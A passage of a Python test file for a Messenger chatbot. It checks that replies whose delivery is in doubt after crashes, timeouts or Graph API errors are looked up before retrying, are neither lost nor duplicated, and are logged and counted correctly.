    while store.conversations.reserve_graph_read(PAGE_ID, 2, latest=clock() + 6) is not None:
        pass  # other looks took the next 6 s of reads: this one waits past its 4 s lease
    taken = []
    clock.visit = lambda: taken.append(store.claim("another-host", 30))
    answer_queue(client)
    assert taken and taken[0] is not None  # another host took the batch over meanwhile...
    assert graph.sent_texts(PSID) == []  # ...so this one sent nothing: the send is the new owner's


def test_looks_that_could_not_tell_spend_none_of_the_sends_tries(make_client, graph, model):
    """Graph failing for a while: the looks wait for it without spending MAX_ATTEMPTS, so the
    send still has every try for a Send API that then fails for a moment."""
    clock = FakeClock()
    client = make_client(clock, MAX_ATTEMPTS="2")
    store = died_mid_send(client, clock)  # ...before the send reached Meta
    for _ in range(3):
        graph.fail_next("history", graph_error(2, "An unexpected error has occurred.", status=500))
        answer_queue(client)
        clock.advance(11)  # past the look's next turn
    assert graph.sent_texts(PSID) == [] and store.states() == {"m_mid_send": "pending"}
    graph.fail_next("send", graph_error(1200, "Temporary send message failure"))  # refused: nothing went out
    answer_queue(client)  # the look: not there; the send: refused, the 1st of its 2 tries
    clock.advance(60)
    answer_queue(client)
    assert graph.sent_texts(PSID) == ["We deliver on weekdays."]
    assert store.states() == {"m_mid_send": "done"}


def test_a_send_in_doubt_warns_once_however_often_it_is_looked_for(make_client, graph, model, caplog):
    """Graph failing for a while: each look puts the send back, but only the first says so at
    WARNING - a dead host's sends in doubt would otherwise warn every 5-10 s each for two minutes."""
    clock = FakeClock()
    client = make_client(clock)
    died_mid_send(client, clock)
    caplog.set_level(logging.INFO, logger="bot.replies.batch")
    for _ in range(3):
        graph.fail_next("history", graph_error(2, "An unexpected error has occurred.", status=500))
        answer_queue(client)
        clock.advance(11)  # past the look's next turn
    looks = [r for r in caplog.records if "looking again" in r.getMessage()]
    assert [r.levelno for r in looks] == [logging.WARNING, logging.INFO, logging.INFO]


def test_a_look_graph_can_never_answer_is_not_waited_for(make_client, graph, model):
    """A token without the permission to read conversations: no later look would tell either,
    so the send goes out now rather than after two minutes of looks."""
    clock = FakeClock()
    client = make_client(clock)
    store = died_mid_send(client, clock)  # ...before the send reached Meta
    graph.fail_next("history", graph_error(200, "(#200) Requires pages_messaging permission", status=403))
    answer_queue(client)
    assert graph.sent_texts(PSID) == ["We deliver on weekdays."]
    assert store.states() == {"m_mid_send": "done"}


def test_a_send_nothing_could_confirm_for_two_minutes_is_sent(make_client, graph, model):
    """When no look could ask Graph for LOOK_FOR_SENT_S, it is sent: twice beats never."""
    from bot.replies.batch import LOOK_FOR_SENT_S

    clock = FakeClock()
    client = make_client(clock)
    store = died_mid_send(client, clock)  # ...before the send reached Meta
    started = clock() - 31  # when the process that died began the send
    before = sends_in_doubt(client)
    looks = 0
    while clock() - started < LOOK_FOR_SENT_S:
        graph.fail_next("history", graph_error(2, "An unexpected error has occurred.", status=500))
        answer_queue(client)
        looks += 1
        assert graph.sent_texts(PSID) == [], f"sent after {clock() - started:.0f} s"
        clock.advance(11)
    graph.fail_next("history", graph_error(2, "An unexpected error has occurred.", status=500))
    answer_queue(client)
    assert graph.sent_texts(PSID) == ["We deliver on weekdays."] and looks > 5  # MAX_ATTEMPTS is 5
    assert store.states() == {"m_mid_send": "done"}
    after = sends_in_doubt(client)  # what an operator sees
    counted = {result: after[result] - before.get(result, 0) for result in after}
    assert {result: n for result, n in counted.items() if n} == {"cannot-tell": looks, "sent-unknowing": 1}, counted


def sends_in_doubt(client):
    """messenger_sends_in_doubt_total by result, from /metrics."""
    prefix = 'messenger_sends_in_doubt_total{result="'
    lines = client.get("/metrics").get_data(as_text=True).splitlines()
    return {line[len(prefix):].split('"')[0]: int(float(line.rsplit(" ", 1)[1]))
            for line in lines if line.startswith(prefix)}


def test_a_send_that_timed_out_but_went_out_is_not_sent_again_by_the_retry(make_client, graph, model):
    """The Send API took longer than GRAPH_TIMEOUT and delivered all the same: the retry looks
    for the message (mirror, then Graph) before sending it again, as after a crash mid-send."""
    clock = FakeClock()
    client = make_client(clock, GRAPH_TIMEOUT="0.5")
    graph.delays["send"] = 1.0  # Meta answers after the bot gave up waiting, and delivers
    post_signed(client, text_body("m_slow_send", "Do you deliver?", PSID, int(clock() * 1000)))
    answer_queue(client)  # the first attempt: a read timeout
    assert wait_for(lambda: graph.sent_texts(PSID) == ["Hello from the model."])
    graph.delays["send"] = 0
    clock.advance(60)  # past the retry's backoff
    answer_queue(client)  # the retry, in this thread: a second send would be in by now
    assert graph.sent_texts(PSID) == ["Hello from the model."]  # once
    assert len(model.requests) == 1  # the kept answer, not a second model call
    assert client.application.extensions["dispatcher"].store.states() == {"m_slow_send": "done"}


def test_a_send_refused_before_it_reached_meta_is_retried_without_a_look(make_client, graph, model):
    """Nothing to doubt when no connection was made: the retry sends, no Graph read spent on it."""
    clock = FakeClock()
    client = make_client(clock, FB_API_URL="http://127.0.0.1:9/")  # nothing listens on port 9
    post_signed(client, text_body("m_refused", "Do you deliver?", PSID, int(clock() * 1000)))
    answer_queue(client)
    clock.advance(60)
    retried = client.application.extensions["dispatcher"].store.claim("a-look", 30)
    assert retried.attempts == 2 and retried.sending is None


def test_a_retry_stays_in_doubt_when_its_look_for_the_send_failed_too(make_client, graph, model, env):
    clock = FakeClock()
    client = make_client(clock, GRAPH_TIMEOUT="0.5")
    graph.delays["send"] = 1.0
    post_signed(client, text_body("m_doubt", "Do you deliver?", PSID, int(clock() * 1000)))
    answer_queue(client)  # a read timeout: in doubt
    graph.delays["send"] = 0
    database = os.path.join(env["DATA_DIR"], "bot.sqlite3")
    with sqlite3.connect(database) as db:
        db.execute("ALTER TABLE mirror RENAME TO mirror_away")  # the next look cannot read the mirror
    clock.advance(60)
    answer_queue(client)
    with sqlite3.connect(database) as db:
        db.execute("ALTER TABLE mirror_away RENAME TO mirror")
    clock.advance(60)
    assert client.application.extensions["dispatcher"].store.claim("a-look", 30).sending == 0  # it looks again
